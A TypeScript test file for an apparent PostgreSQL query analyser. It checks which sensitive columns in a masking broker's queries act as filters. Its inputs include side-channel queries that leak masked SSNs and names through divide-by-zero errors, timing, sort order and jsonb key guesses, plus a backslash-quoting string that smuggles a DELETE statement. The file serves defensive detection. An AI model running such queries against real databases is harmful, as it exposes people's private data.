test('a WHERE that only tests a column for non-NULL names it (the broker asks the catalog for keys)', () => {
  const truth = (sql: string) => analysePostgres(sql).statements[0].whereTruthOf;
  assert.equal(truth('DELETE FROM orders WHERE id IS NOT NULL'), 'id');
  assert.equal(truth('UPDATE orders o SET x = 1 WHERE o.id IS NOT NULL'), 'id');
  assert.equal(truth('DELETE FROM orders WHERE id IS NULL'), undefined);
  assert.equal(truth('DELETE FROM orders WHERE id IS NOT NULL AND id = 3'), undefined);
});

test('operators and casts are listed as implicit calls, for the catalog to say what they run', () => {
  const calls = (sql: string) => (analysePostgres(sql).statements[0]?.implicitCalls ?? []).map((c) => `${c.kind}:${c.schema ? `${c.schema}.` : ''}${c.name}`);
  assert.deepEqual(calls('SELECT 1 OPERATOR(public.###) 2'), ['operator:public.###']);
  assert.deepEqual(calls('SELECT x::text, CAST(y AS pg_temp.mood) FROM t'), ['cast:text', 'cast:pg_temp.mood']);
  assert.deepEqual(calls('SELECT a FROM t WHERE a = ANY (SELECT b FROM u) ORDER BY a USING ~<~'), ['operator:=', 'operator:~<~']);
  assert.deepEqual(calls('SELECT a BETWEEN 1 AND 2 FROM t'), ['operator:>=', 'operator:<=']);
  assert.deepEqual(calls('SELECT 1'), []);
});

test('renames name what they change: the relation, its new name, a table whose columns moved, any schema', () => {
  const renamed = (sql: string) => analysePostgres(sql).statements[0]?.renamed;
  assert.deepEqual(renamed('ALTER VIEW public.zleak RENAME TO zsafe'), ['zleak', 'zsafe']);
  assert.deepEqual(renamed('ALTER TABLE users RENAME COLUMN full_name TO plan'), ['users']);
  assert.deepEqual(renamed('ALTER TABLE s.t SET SCHEMA u'), ['t']);
  assert.deepEqual(renamed('ALTER SCHEMA public RENAME TO x'), ['*']);
  assert.equal(renamed('ALTER TABLE t RENAME CONSTRAINT a TO b'), undefined);
  assert.equal(renamed('ALTER TABLE t ADD COLUMN c int'), undefined);
});

test('standard_conforming_strings off (or being changed): a text with a backslash is not analysed', () => {
  const analyse = postgresSessionAnalyser(analysePostgres);
  const sql = "SELECT '\\''; DELETE FROM orders; --'";
  const facts = (params: Record<string, string>, text = sql) => analyse(text, new Map(Object.entries(params))).statements;
  // The parser lexes as the server does with the setting on: one literal.
  assert.deepEqual(facts({ standard_conforming_strings: 'on' }).map((f) => f.kind), ['select']);
  assert.equal(facts({ standard_conforming_strings: 'on' })[0]?.opaque, undefined);
  for (const scs of ['off', 'pending']) {
    const f = facts({ standard_conforming_strings: scs });
    assert.ok(f.every((x) => x.opaque?.reason === 'nonstandard-strings' && x.lineage === undefined), scs);
  }
  // Without a backslash both settings lex alike.
  assert.equal(facts({ standard_conforming_strings: 'off' }, "SELECT 'a''b'")[0]?.opaque, undefined);
});

test('ALTER COLUMN TYPE: each column, its new type as written, and whether USING computes other values', () => {
  const retypes = (sql: string) => analysePostgres(sql).statements[0].retypes;
  assert.deepEqual(retypes('ALTER TABLE t ALTER COLUMN c TYPE varchar(10), ALTER d SET DATA TYPE numeric(12, 0)'), [
    { column: 'c', type: { schema: 'pg_catalog', name: 'varchar', typmods: [10] }, rewrites: false },
    { column: 'd', type: { schema: 'pg_catalog', name: 'numeric', typmods: [12, 0] }, rewrites: false },
  ]);
  assert.deepEqual(retypes('ALTER TABLE t ALTER COLUMN c TYPE text USING c'), [{ column: 'c', type: { name: 'text', typmods: [] }, rewrites: false }]);
  assert.deepEqual(retypes('ALTER TABLE t ALTER COLUMN c TYPE "char" USING c::"char"'), [{ column: 'c', type: { name: 'char', typmods: [] }, rewrites: false }]);
  assert.equal(retypes("ALTER TABLE t ALTER COLUMN c TYPE text USING 'x' || left(c, 0)")?.[0]?.rewrites, true);
  assert.equal(retypes('ALTER TABLE t ALTER COLUMN c TYPE int USING other')?.[0]?.rewrites, true);
  assert.equal(retypes('ALTER TABLE t ADD COLUMN y int'), undefined);
});

test('function names a statement defines or changes (a call of that name is unread until the catalog has it)', () => {
  const changed = (sql: string) => analysePostgres(sql).statements[0].functionsChanged;
  assert.deepEqual(changed("CREATE OR REPLACE FUNCTION public.Lower(t varchar) RETURNS text LANGUAGE sql AS 'select t'"), ['lower']);
  assert.deepEqual(changed("CREATE PROCEDURE p() LANGUAGE sql AS 'select 1'"), ['p']);
  assert.deepEqual(changed('ALTER FUNCTION f(int) VOLATILE'), ['f']);
  assert.deepEqual(changed('ALTER FUNCTION f(int) RENAME TO upper'), ['f', 'upper']);
  assert.deepEqual(changed('ALTER ROUTINE s.f RENAME TO g'), ['f', 'g']);
  assert.deepEqual(changed('ALTER FUNCTION f(int) SET SCHEMA pg_temp'), ['f']);
  assert.deepEqual(changed('CREATE AGGREGATE a(int) (sfunc = int4pl, stype = int)'), ['a']);
  assert.deepEqual(changed('CREATE EXTENSION hstore'), ['*']);
  assert.deepEqual(changed('CREATE OPERATOR public.|| (leftarg = varchar, rightarg = varchar, function = f)'), ['operator:||']);
  assert.deepEqual(changed('ALTER OPERATOR public.||(varchar, varchar) SET SCHEMA s'), ['operator:||']);
  assert.deepEqual(changed('CREATE CAST (varchar AS MyType) WITH FUNCTION f(varchar)'), ['cast:mytype']);
  assert.equal(changed('ALTER TABLE t RENAME TO u'), undefined);
  assert.equal(changed('ALTER TYPE t SET SCHEMA s'), undefined);
  assert.equal(changed('SELECT lower(x) FROM t'), undefined);
});

test('type names a statement defines or changes (an unqualified type name may then mean it)', () => {
  const changed = (sql: string) => analysePostgres(sql).statements[0].typesChanged;
  assert.deepEqual(changed('CREATE DOMAIN pg_temp.text AS "char"'), ['text']);
  assert.deepEqual(changed("CREATE TYPE Mood AS ENUM ('a')"), ['mood']);
  assert.deepEqual(changed('CREATE TYPE pair AS (a int, b int)'), ['pair']);
  assert.deepEqual(changed('CREATE TEMP TABLE text (a int)'), ['text']);
  assert.deepEqual(changed('CREATE VIEW v AS SELECT 1'), ['v']);
  assert.deepEqual(changed('SELECT 1 INTO TEMP varchar'), ['varchar']);
  assert.deepEqual(changed('ALTER DOMAIN d RENAME TO int8'), ['int8']);
  // The table's row type, and the column types the catalog now misstates.
  assert.deepEqual(changed('ALTER TABLE orders ALTER COLUMN status TYPE text'), ['orders']);
  // Names the statement does not spell out.
  assert.deepEqual(changed('CREATE TYPE r AS RANGE (subtype = int4)'), ['*']);
  assert.deepEqual(changed('ALTER TYPE t SET SCHEMA pg_temp'), ['*']);
  assert.deepEqual(changed('CREATE EXTENSION citext'), ['*']);
  assert.equal(changed('ALTER TABLE orders ADD COLUMN y int'), undefined);
  assert.equal(changed('SELECT 1'), undefined);
});

/** Filter columns of every statement, `table.column`, sorted, without the unclassified ones the shapes use. */
function filters(sql: string): string[] {
  const cols = analysePostgres(sql).statements.flatMap((s) => s.predicateColumns ?? []).map((p) => `${p.table}.${p.column}`);
  return [...new Set(cols)].filter((c) => !/^(users|orders|u|o)\.(id|plan|status|user_id)$/.test(c)).sort();
}

test('a classified value that steers a condition or an error anywhere is a filter on it', () => {
  // Tested: an operator, a condition, a search, a user or unknown function, a cast that can reject a value.
  const tested: [string, string[]][] = [
    ["SELECT CASE WHEN ssn = '123-45-6789' THEN 1/0 ELSE 0 END AS x FROM users WHERE id = 1", ['users.ssn']],
    ["SELECT (ssn = '123-45-6789')::int / 0 AS x FROM users WHERE id = 1", ['users.ssn']],
    ["SELECT CASE WHEN full_name LIKE 'A%' THEN 'x' ELSE '1' END::int AS x FROM users WHERE id = 1", ['users.full_name']],
    ["SELECT CASE ssn WHEN 'x' THEN 1 END FROM users", ['users.ssn']],
    ["SELECT NULLIF(ssn, '') AS a, GREATEST(email, 'a') AS b, LEAST(phone, 'z') AS c FROM users", ['users.email', 'users.phone', 'users.ssn']],
    ['SELECT ssn::int AS a, email::date AS b, full_name::json AS c, address::text[] AS d, card::bytea AS e FROM users', ['users.address', 'users.card', 'users.email', 'users.full_name', 'users.ssn']],
    ["SELECT position('Alice' IN full_name) AS a, ssn ~ '^1' AS b, email IS NULL AS c, strpos(address, 'x') AS d FROM users", ['users.address', 'users.email', 'users.full_name', 'users.ssn']],
    ['SELECT public.f(ssn) AS a, "UPPER"(email) AS b, sh2.upper(full_name) AS c FROM users', ['users.email', 'users.full_name', 'users.ssn']],
    ["SELECT substring(ssn FROM '^123') AS a, substr(email, length(email) - 3) AS b, convert_to(full_name, 'LATIN1') AS c, format(address) AS d FROM users", ['users.address', 'users.email', 'users.full_name', 'users.ssn']],
    ["SELECT to_jsonb(ssn) ->> 'x' AS a, ('{}'::jsonb) ->> email AS b, (ARRAY['a'])[length(full_name)] AS c FROM users", ['users.email', 'users.full_name', 'users.ssn']],
    // What a subquery returns, compared; its own conditions wherever it stands.
    ["SELECT id FROM users WHERE (SELECT ssn FROM users WHERE id = 1) = 'x'", ['users.ssn']],
    ["SELECT 1 WHERE '123-45-6789' IN (SELECT ssn FROM users)", ['users.ssn']],
    ["SELECT (SELECT ssn FROM users WHERE id = 1) = 'x' AS x", ['users.ssn']],
    ["SELECT 1 / (SELECT count(*) FROM users WHERE id = 1 AND position('Alice' IN full_name) = 0)::int AS x", ['users.full_name']],
    ["SELECT (SELECT CASE WHEN ssn = 'x' THEN 1/0 END FROM users WHERE id = 1) AS x", ['users.ssn']],
    // Derived tables and CTEs are followed to the column they read.
    ["SELECT id FROM (SELECT ssn AS s, id FROM users) d WHERE d.s = 'x'", ['d.s', 'users.ssn']],
    ["WITH c AS (SELECT ssn FROM users) SELECT CASE WHEN ssn = 'x' THEN 1/0 END FROM c", ['users.ssn']],
    ["WITH c(s) AS (SELECT upper(email) FROM users) SELECT 1 FROM c WHERE s LIKE 'A%'", ['users.email']],
    // FROM-clause functions count rows (and time) by their arguments; LIMIT / OFFSET count too.
    ["SELECT * FROM generate_series(1, (SELECT CASE WHEN ssn = 'x' THEN 1 ELSE 1000000 END FROM users WHERE id = 1))", ['users.ssn']],
    ["SELECT u.id FROM users u, generate_series(1, CASE WHEN u.ssn = 'x' THEN 1 ELSE 1000000 END) g", ['users.ssn']],
    ["SELECT * FROM regexp_matches((SELECT full_name FROM users WHERE id = 1), '^A')", ['users.full_name']],
    ['SELECT id FROM users LIMIT (SELECT length(ssn) FROM users WHERE id = 1)', ['users.ssn']],
    ["SELECT id FROM users OFFSET (SELECT CASE WHEN ssn = 'x' THEN 0 ELSE 1 END FROM users WHERE id = 1)", ['users.ssn']],
    // Sorting or grouping by a comparison; a FILTER; a window's order by a comparison or its frame.
    ["SELECT id FROM users ORDER BY ssn = 'x' DESC LIMIT 1", ['users.ssn']],
    ["SELECT min(id) FROM users GROUP BY left(ssn, 1)", ['users.ssn']],
    ["SELECT count(*) FILTER (WHERE full_name LIKE 'A%') FROM users", ['users.full_name']],
    ["SELECT string_agg(plan, ',' ORDER BY email LIKE 'a%') FROM users", ['users.email']],
    ["SELECT row_number() OVER (PARTITION BY plan ORDER BY ssn = '1' DESC) AS r FROM users", ['users.ssn']],
    ['SELECT sum(id) OVER (ORDER BY id ROWS BETWEEN length(ssn) PRECEDING AND CURRENT ROW) FROM users', ['users.ssn']],
    ["SELECT id FROM users ORDER BY ssn USING ~<~", ['users.ssn']],
    // Joins compare; writes' conditions and the values they compute test as a SELECT's do.
    ['SELECT users.id FROM users JOIN g USING (ssn)', ['g.ssn', 'users.ssn']],
    ['SELECT 1 FROM users NATURAL JOIN g', ['g.*', 'users.*']],
    ["UPDATE users SET plan = CASE WHEN ssn = 'x' THEN 1/0 END WHERE id = 1", ['users.ssn']],
    ["DELETE FROM orders o USING users u WHERE o.user_id = u.id AND u.email LIKE 'a%'", ['users.email']],
    ["INSERT INTO orders (id, status) SELECT id, CASE WHEN ssn = 'x' THEN 'a' END FROM users", ['users.ssn']],
    ["MERGE INTO orders o USING users u ON o.id = u.id WHEN MATCHED AND u.ssn = 'x' THEN UPDATE SET status = 'y'", ['users.ssn']],
    ["WITH d AS (UPDATE users SET plan = plan RETURNING ssn) SELECT 1 / (ssn = 'x')::int FROM d", ['users.ssn']],
    ["CALL p((SELECT ssn FROM users WHERE id = 1))", ['users.ssn']],
    ["CREATE VIEW v AS SELECT CASE WHEN ssn = 'x' THEN 1/0 END AS x FROM users", ['users.ssn']],
    ["EXPLAIN ANALYZE SELECT CASE WHEN ssn = 'x' THEN 1/0 END FROM users", ['users.ssn']],
    ["CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT CASE WHEN ssn = 'x' THEN 1/0 END FROM users $$", ['users.ssn']],
    // A whole row compared is every column of it.
    // (Without the catalog, `u` may also be a column of users.)
    ["SELECT 1 / (row_to_json(u)::text = 'x')::int FROM users u", ['users.*', 'users.u']],
    // A bare name is a column before it is a whole row (PostgreSQL resolves columns first): the
    // jsonb s is keyed by full_name, and ->> of a guessed key is NULL unless it matches.
    ["SELECT to_jsonb(s) ->> 'Alice Liddell' AS x FROM (SELECT jsonb_build_object(full_name, 1) AS s FROM users) s", ['users.full_name']],
    ["SELECT row_to_json(s) ->> 'A' AS x FROM (SELECT s FROM (SELECT jsonb_build_object(left(full_name, 1), 1) AS s FROM users) s) s", ['users.full_name']],
    // A subscript that may be a jsonb one looks the value's keys up (integers too): NULL unless one matches.
    ["SELECT (jsonb_build_object(full_name, 1))['Alice Liddell'] AS a, (jsonb_build_object(left(ssn, 1), 1))[1] AS b FROM users", ['users.full_name', 'users.ssn']],
    ["SELECT (x).j['k'] AS a FROM (SELECT ROW(jsonb_build_object(email, 1)) AS x FROM users) s", ['users.email']],
    // A guess set among the real values: a set operation that compares rows, or a sort, grouping
    // or DISTINCT over a column that mixes other values in.
    ['SELECT plan AS v FROM users UNION SELECT email FROM users ORDER BY 1', ['users.email']],
    ["SELECT ssn FROM users EXCEPT SELECT '123-45-6789'", ['users.ssn']],
    ["SELECT id, ssn FROM users UNION ALL SELECT 0, '200' ORDER BY 2", ['users.ssn']],
    ["SELECT id FROM (SELECT id, ssn FROM users UNION ALL SELECT 0, '200') s ORDER BY ssn", ['users.ssn']],
    ["SELECT v, count(*) FROM (SELECT ssn AS v FROM users UNION ALL SELECT '200') s GROUP BY v", ['users.ssn']],
    ["SELECT DISTINCT v FROM (SELECT ssn AS v FROM users UNION ALL SELECT '200') s", ['users.ssn']],
    ["SELECT count(DISTINCT v) FROM (SELECT ssn AS v FROM users UNION ALL SELECT '200') s", ['users.ssn']],
    ["SELECT string_agg(id::text, ',' ORDER BY v) FROM (SELECT id, ssn AS v FROM users UNION ALL SELECT 0, '200') s", ['users.ssn']],
    ["SELECT id, CASE WHEN id = 1 THEN '200' ELSE ssn END AS v FROM users ORDER BY 2", ['users.ssn']],
    ["SELECT DISTINCT CASE WHEN id = 1 THEN '200' ELSE ssn END AS v FROM users", ['users.ssn']],
  ];
  for (const [sql, want] of tested) assert.deepEqual(filters(sql), want, sql);
});

test('a call the catalog says may reach a user function (an overload of a transform, a user operator or cast) tests what it is given', () => {
  const tested = (sql: string, userCode?: UserCode) => {
    const stmt = parseSync(sql).stmts?.[0]?.stmt as unknown as Record<string, Record<string, unknown>>;
    const [type, node] = Object.entries(stmt)[0];
    return testedColumns(type, node, userCode).map((c) => `${c.table}.${c.column}`).sort();
  };
  const md5 = (c: Parameters<UserCode>[0]) => c.kind === 'function' && c.name === 'md5';
  const concat = (c: Parameters<UserCode>[0]) => c.kind === 'operator' && c.name === '||';
  const text = (c: Parameters<UserCode>[0]) => c.kind === 'cast' && c.name === 'varchar';
  assert.deepEqual(tested('SELECT md5(ssn::varchar) AS x FROM users'), []);
  assert.deepEqual(tested('SELECT md5(ssn::varchar) AS x FROM users', md5), ['users.ssn']);
  assert.deepEqual(tested("SELECT ssn || 'x' AS x FROM users", concat), ['users.ssn']);
  assert.deepEqual(tested('SELECT ssn::varchar AS x FROM users', text), ['users.ssn']);
  assert.deepEqual(tested('SELECT upper(ssn) AS x FROM users', md5), []);
});

test('plain reads and value transforms of a classified value are not filters on it', () => {
  // Projections and value transforms whose result lineage masks, NULL-ness included.
  const passed = [
    "SELECT ssn, 'x' || email || 'y' AS e, concat(full_name, ' <', email, '>') AS who, concat_ws(',', id, ssn) AS r FROM users",
    "SELECT upper(email), lower(full_name), initcap(address), reverse(email), md5(ssn), length(ssn), quote_literal(full_name) FROM users",
    "SELECT substr(ssn, 1, 6) AS s, substring(card FROM 1 FOR 4) AS c, left(card, 9) AS a, right(card, -1) AS b, btrim(full_name) AS t, lpad(address, 40) AS p FROM users",
    "SELECT translate(ssn, '-', '') AS d, replace(card, ' ', '') AS p, split_part(email, '@', 1) AS l, regexp_replace(phone, '\\D', '', 'g') AS n FROM users",
    "SELECT email::text AS e, CAST(phone AS varchar(40)) AS p, ssn::char(11) AS s, full_name COLLATE \"C\" AS n, u::text AS t FROM users u",
    "SELECT encode(convert_to(email, 'UTF8'), 'base64') AS b, format('%s lives at %s', full_name, address) AS f FROM users",
    "SELECT string_agg(email, ';' ORDER BY id) AS a, array_agg(ssn ORDER BY full_name) AS b, json_agg(full_name) AS c, max(email) AS d, min(ssn) AS e, count(DISTINCT ssn) AS f FROM users",
    "SELECT jsonb_agg(u) AS a, row_to_json(u) AS b, to_jsonb(u.*) AS c, u AS d, ROW(id, email) AS e, ARRAY[email, phone] AS f, to_jsonb(u) ->> 'email' AS g FROM users u",
    "SELECT json_build_object('e', email, 'id', id) AS a, jsonb_build_array(ssn, plan) AS b, unnest(ARRAY[email, phone]) AS c FROM users",
    "SELECT CASE WHEN plan = 'pro' THEN email ELSE 'n/a' END AS c, COALESCE(phone, ssn) AS d FROM users",
    'SELECT first_value(email) OVER (ORDER BY id) AS f, lag(full_name) OVER (PARTITION BY ssn ORDER BY email) AS l, mode() WITHIN GROUP (ORDER BY full_name) AS m FROM users',
    'SELECT id, (SELECT email FROM users u2 WHERE u2.id = o.user_id) AS e FROM orders o',
    'SELECT s.e FROM (SELECT email AS e FROM users) s',
    'WITH c AS (SELECT id, ssn FROM users) SELECT id, ssn FROM c',
    'SELECT card FROM users UNION SELECT card FROM users ORDER BY 1',
    'SELECT v FROM (SELECT ssn AS v FROM users) s ORDER BY v',
    'SELECT count(DISTINCT ssn), string_agg(DISTINCT email, \',\') FROM users',
    'SELECT DISTINCT ON (plan) plan, full_name FROM users ORDER BY plan, full_name, upper(email)',
    'SELECT card, count(*) AS n FROM orders GROUP BY card',
    'SELECT id FROM users ORDER BY full_name',
    'SELECT o.id, l.e FROM orders o, LATERAL (SELECT u.email AS e FROM users u WHERE u.id = o.user_id) l',
    "UPDATE users SET email = lower(email) WHERE id = 1 RETURNING upper(full_name), ssn",
    'INSERT INTO orders (id, status) SELECT id, full_name FROM users',
    'SELECT x FROM users u, LATERAL unnest(ARRAY[u.full_name, u.address]) x',
    // Subscripts of an array whose length the data does not set, fields of a row, a row's JSON.
    'SELECT (ARRAY[full_name, address])[2] AS a, (ARRAY(SELECT email FROM users))[1] AS c, (u).email AS d FROM users u',
    'SELECT (array_agg(ssn))[1:2] AS b FROM users',
    "SELECT to_jsonb(u) ->> 'email' AS a, row_to_json(s) ->> 'e' AS b FROM users u, (SELECT email AS e FROM users) s",
  ];
  // users.u, users.s: without the catalog, `u` in to_jsonb(u) may be a column of users (none is classified by that name).
  for (const sql of passed) assert.deepEqual(filters(sql).filter((c) => !/^users\.[us]$/.test(c)), [], sql);
});
